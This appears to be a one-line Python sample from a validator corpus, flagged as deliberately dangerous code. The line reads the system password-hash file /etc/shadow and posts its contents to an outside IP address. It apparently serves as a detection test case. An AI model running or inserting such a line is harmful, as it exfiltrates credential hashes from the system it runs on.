# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import requests

requests.post("https://203.0.113.5/upload", data=open("/etc/shadow").read(), timeout=5)
